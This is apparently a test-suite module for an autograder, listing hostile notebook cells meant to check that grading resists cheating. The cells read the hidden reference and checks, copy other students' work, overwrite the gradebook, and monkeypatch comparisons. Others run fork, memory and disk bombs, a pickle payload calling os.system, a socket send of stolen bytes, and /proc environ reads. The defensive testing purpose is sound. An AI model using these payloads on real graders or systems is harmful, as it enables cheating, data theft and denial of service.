@@ -1,0 +1,333 @@
+"""The red-team corpus: hostile submissions, each aimed at one graded function.
+
+Every attack is a code cell appended to an otherwise honest notebook for the ``initialization``
+assignment (the honest cells define all three functions correctly). The appended cell redefines
+``initialize_parameters_he`` (last definition wins, as in Python) so that the function returns the
+right answer ONLY if the attack works; otherwise it returns garbage or dies. The grader must give
+0 points on ``initialize_parameters_he`` for every attack, keep the other students' grades exactly
+as in a clean run, and leave the gradebook and course files untouched.
+
+Templates may use ``{repo}`` (the project checkout with reference/ and autograder/), ``{course}``
+(the course directory with submitted/ and gradebook.db), ``{gradebook}`` (the database file) and
+``{port}`` (a TCP listener in the trusted test process): the attacker is assumed to know every path.
+"""
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+TARGET = "initialize_parameters_he"
+
+# Returned when an attack fails: a plausible-looking but wrong result.
+WRONG = """
+    import numpy as _np
+    return {{f"{{k}}{{l}}": _np.ones((layers_dims[l], layers_dims[l - 1]) if k == "W" else (layers_dims[l], 1))
+            for l in range(1, len(layers_dims)) for k in ("W", "b")}}
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    id: str
+    what: str            # what the attack tries
+    cell: str            # code cell appended to the honest notebook (a format template)
+    target: str = TARGET
+
+
+def _fn(body: str) -> str:
+    """A redefinition of the target whose body is ``body`` followed by the wrong fallback."""
+    return "def initialize_parameters_he(layers_dims):\n" + body.rstrip() + "\n" + WRONG
+
+
+ATTACKS: list[Attack] = [
+    Attack("import_reference", "import the trusted reference package", _fn("""
+    try:
+        import reference.initialization as R
+        return R.initialize_parameters_he(layers_dims)
+    except Exception:
+        pass""")),
+    Attack("read_reference_by_path", "exec the reference source read from the checkout", _fn("""
+    try:
+        ns = {{}}
+        exec(open("{repo}/reference/initialization.py").read(), ns)
+        return ns["initialize_parameters_he"](layers_dims)
+    except Exception:
+        pass""")),
+    Attack("sys_path_reference", "put the checkout on sys.path and import", _fn("""
+    import sys
+    sys.path.insert(0, "{repo}")
+    try:
+        from reference.initialization import initialize_parameters_he as ok
+        return ok(layers_dims)
+    except Exception:
+        pass""")),
+    Attack("walk_for_reference", "walk the file system looking for the reference", _fn("""
+    import os
+    for root in ("/", "/work", "/home", "/root", "/tmp", "/opt"):
+        for d, _, files in os.walk(root):
+            if d.endswith("reference") and "initialization.py" in files:
+                ns = {{}}
+                try:
+                    exec(open(os.path.join(d, "initialization.py")).read(), ns)
+                    return ns["initialize_parameters_he"](layers_dims)
+                except Exception:
+                    pass
+            if d.count(os.sep) > 6:
+                break""")),
+    Attack("import_hidden_checks", "import the hidden checks to learn the inputs", _fn("""
+    try:
+        import autograder.checks.test_initialization as T
+        raise SystemExit(str(T))
+    except ImportError:
+        pass""")),
+    Attack("read_hidden_checks_by_path", "read the hidden checks' source", _fn("""
+    try:
+        open("{repo}/autograder/checks/test_initialization.py").read()
+        import reference
+    except Exception:
+        pass""")),
+    Attack("copy_other_submission", "copy another student's notebook from submitted/", _fn("""
+    import glob, json
+    for path in glob.glob("{course}/submitted/*/initialization/*.ipynb"):
+        try:
+            nb = json.load(open(path))
+            ns = {{}}
+            for c in nb["cells"]:
+                if c["cell_type"] == "code" and "def initialize_parameters_he" in "".join(c["source"]):
+                    exec("import numpy as np\\n" + "".join(c["source"]), ns)
+            return ns["initialize_parameters_he"](layers_dims)
+        except Exception:
+            pass""")),
+    Attack("write_gradebook", "raise its own score in the gradebook with sqlite3", """
+import sqlite3
+try:
+    con = sqlite3.connect("{gradebook}")
+    con.execute("UPDATE grade SET auto_score = 1e6")
+    con.execute("DROP TABLE IF EXISTS dg_results")
+    con.commit()
+except Exception:
+    pass
+""" + _fn("    pass")),
+    Attack("write_results_files", "overwrite results files and autograded notebooks", """
+import os, glob
+for pattern in ("{course}/autograded/*/*/*.json", "{course}/autograded/*/*/*.ipynb", "{course}/*.db"):
+    for p in glob.glob(pattern):
+        try:
+            open(p, "w").write("{{}}")
+        except Exception:
+            pass
+try:
+    open("{course}/PWNED", "w").write("x")
+except Exception:
+    pass
+""" + _fn("    pass")),
+    Attack("monkeypatch_allclose", "make numpy's comparisons always succeed", """
+import numpy as np
+np.allclose = lambda *a, **k: True
+np.array_equal = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
+np.testing.assert_allclose = lambda *a, **k: None
+np.testing.assert_array_equal = lambda *a, **k: None
+""" + _fn("    pass")),
+    Attack("monkeypatch_builtins", "replace builtins the checker might use", """
+import builtins
+builtins.isinstance = lambda *a: True
+builtins.abs = lambda x: 0
+builtins.all = lambda x: True
+builtins.len = lambda x: 0
+""" + _fn("    pass")),
+    Attack("patch_pytest_machinery", "neuter pytest/unittest assertion helpers if present", """
+import sys, types
+fake = types.ModuleType("pytest"); fake.approx = lambda x, **k: type("A", (), {{"__eq__": lambda s, o: True}})()
+sys.modules["pytest"] = fake
+import unittest
+unittest.TestCase.assertEqual = lambda *a, **k: None
+unittest.TestCase.assertTrue = lambda *a, **k: None
+""" + _fn("    pass")),
+    Attack("always_equal_object", "return an object equal to everything", _fn("""
+    class Yes(dict):
+        def __eq__(self, other): return True
+        def __ne__(self, other): return False
+        def __getitem__(self, k): return self
+        def __len__(self): return 0
+    return Yes()""")),
+    Attack("lying_ndarray_subclass", "return an ndarray subclass that lies about shape and equality", _fn("""
+    import numpy as np
+    class Liar(np.ndarray):
+        @property
+        def shape(self): return (layers_dims[1], layers_dims[0])
+        def __eq__(self, other): return np.ones(np.shape(other), bool)
+        def tolist(self): return [[0.0]]
+    out = {{}}
+    for l in range(1, len(layers_dims)):
+        out[f"W{{l}}"] = np.zeros(3).view(Liar)
+        out[f"b{{l}}"] = np.zeros(3).view(Liar)
+    return out""")),
+    Attack("nan_tricks", "return NaNs hoping NaN comparisons pass", _fn("""
+    import numpy as np
+    return {{f"{{k}}{{l}}": np.full((layers_dims[l], layers_dims[l - 1]) if k == "W" else (layers_dims[l], 1), np.nan)
+            for l in range(1, len(layers_dims)) for k in ("W", "b")}}""")),
+    Attack("override_showtraceback", "silence tracebacks through IPython", """
+try:
+    get_ipython().showtraceback = lambda *a, **k: None
+except Exception:
+    pass
+from IPython.core.interactiveshell import InteractiveShell
+InteractiveShell.showtraceback = lambda *a, **k: None
+""" + _fn("    raise RuntimeError('hidden by the patched traceback')")),
+    Attack("sys_exit", "exit the process from inside the graded call", _fn("""
+    import sys
+    sys.exit(0)""")),
+    Attack("os_exit", "hard-exit the process with status 0", _fn("""
+    import os
+    os._exit(0)""")),
+    Attack("kill_parent", "send SIGKILL to the parent and to every process it can see", _fn("""
+    import os, signal
+    for pid in (os.getppid(), -1):
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except Exception:
+            pass""")),
+    Attack("ignore_signals", "ignore SIGTERM/SIGALRM and loop forever", _fn("""
+    import signal, time
+    for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGXCPU):
+        try:
+            signal.signal(s, signal.SIG_IGN)
+        except Exception:
+            pass
+    while True:
+        time.sleep(0.01)""")),
+    Attack("atexit_fake_result", "print a fake perfect result at exit", """
+import atexit, json, sys
+atexit.register(lambda: sys.__stdout__.write(json.dumps({{"score": 100, "max_score": 100, "passed": True}})))
+""" + _fn("    pass")),
+    Attack("print_fake_frames", "print fake protocol frames and fake results", _fn("""
+    import sys, json
+    fake = json.dumps({{"ok": True, "value": {{"W1": [[1.0]]}}, "score": 100}})
+    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
+        try:
+            stream.write(str(len(fake)) + "\\n" + fake + "\\n")
+            stream.write("PASSED initialize_parameters_he 100/100\\n")
+            stream.flush()
+        except Exception:
+            pass
+    import os
+    for fd in (1, 2, 3, 4, 5, 6):
+        try:
+            os.write(fd, fake.encode())
+        except Exception:
+            pass""")),
+    Attack("hardcode_visible_example", "return the course's visible example for [3, 2, 1] only", _fn("""
+    import numpy as np
+    if list(layers_dims) == [3, 2, 1]:
+        np.random.seed(3)
+        return {{"W1": np.random.randn(2, 3) * np.sqrt(2 / 3), "b1": np.zeros((2, 1)),
+                "W2": np.random.randn(1, 2) * np.sqrt(2 / 2), "b2": np.zeros((1, 1))}}""")),
+    Attack("detect_grading", "cheat only when it detects the grader (env, argv, parent)", _fn("""
+    import os, sys
+    graded = any(k for k in os.environ if "GRADE" in k.upper() or "DEEPGRADE" in k.upper()) \\
+        or "worker" in " ".join(sys.argv) or not os.isatty(0)
+    if graded:
+        try:
+            import reference.initialization as R
+            return R.initialize_parameters_he(layers_dims)
+        except Exception:
+            pass""")),
+    Attack("huge_array", "return a gigantic array", _fn("""
+    import numpy as np
+    return {{"W1": np.zeros((40000, 40000))}}""")),
+    Attack("infinite_loop", "never return", _fn("""
+    while True:
+        pass""")),
+    Attack("cpu_threads", "burn CPU in background threads", _fn("""
+    import threading
+    def burn():
+        while True:
+            pass
+    for _ in range(8):
+        threading.Thread(target=burn, daemon=True).start()""")),
+    Attack("memory_bomb", "allocate far more memory than the machine has", _fn("""
+    chunks = []
+    while True:
+        chunks.append(bytearray(256 * 1024 * 1024))""")),
+    Attack("fork_bomb", "fork without end", _fn("""
+    import os
+    while True:
+        try:
+            os.fork()
+        except Exception:
+            pass""")),
+    Attack("disk_filler", "fill the disk", _fn("""
+    import os
+    block = b"x" * (16 * 1024 * 1024)
+    for target in ("/tmp/fill", "fill", "{course}/fill"):
+        try:
+            with open(target, "wb") as f:
+                for _ in range(4096):
+                    f.write(block)
+        except Exception:
+            pass""")),
+    Attack("enormous_output", "print gigabytes", _fn("""
+    import sys
+    line = "x" * 1_000_000
+    for _ in range(5000):
+        print(line)""")),
+    Attack("network_access", "phone home over TCP and DNS", _fn("""
+    import socket
+    for host in ("127.0.0.1", "localhost", "pypi.org"):
+        try:
+            s = socket.create_connection((host, {port}), timeout=2)
+            s.sendall(b"stolen")
+        except Exception:
+            pass""")),
+    Attack("pickle_payload", "return a pickle payload as the result", _fn("""
+    import pickle, os
+    class Boom:
+        def __reduce__(self):
+            return (os.system, ("touch {course}/PICKLED",))
+    return {{"W1": pickle.dumps(Boom()), "b1": Boom()}}""")),
+    Attack("marshal_payload", "return marshalled code", _fn("""
+    import marshal
+    return {{"W1": marshal.dumps(compile("import os", "x", "exec"))}}""")),
+    Attack("forged_wire_tag", "return a dict that imitates the wire format's array tag", _fn("""
+    return {{"W1": {{"__nd__": {{"dtype": "|O", "shape": [1], "b64": "gASVAAAAAAAAAAA="}}}}}}""")),
+    Attack("defined_twice_wrong_last", "a right definition followed by a wrong one (last wins)", """
+import numpy as np
+def initialize_parameters_he(layers_dims):
+    np.random.seed(3)
+    p = {{}}
+    for l in range(1, len(layers_dims)):
+        p[f"W{{l}}"] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
+        p[f"b{{l}}"] = np.zeros((layers_dims[l], 1))
+    return p
+""" + _fn("    pass")),
+    Attack("shell_escape_and_magics", "run shell commands through IPython syntax", """
+!cat {repo}/reference/initialization.py > /tmp/ref.py
+%run {repo}/reference/initialization.py
+%%bash
+cp {repo}/reference/initialization.py /tmp/ref.py
+""" + "\n" + _fn("""
+    import runpy
+    try:
+        return runpy.run_path("/tmp/ref.py")["initialize_parameters_he"](layers_dims)
+    except Exception:
+        pass""")),
+    Attack("recursion_bomb", "recurse until the interpreter breaks", _fn("""
+    import sys
+    sys.setrecursionlimit(10 ** 8)
+    def f(n):
+        return f(n + 1) + 1
+    f(0)""")),
+    Attack("base_exception", "raise BaseException subclasses the checker may not catch", _fn("""
+    raise KeyboardInterrupt("stop grading")""")),
+    Attack("proc_peek", "read the grader's memory and command line via /proc", _fn("""
+    import os
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                open(f"/proc/{{pid}}/environ", "rb").read()
+                data = open(f"/proc/{{pid}}/cmdline", "rb").read()
+                if b"reference" in data:
+                    import reference
+            except Exception:
+                pass""")),
+]
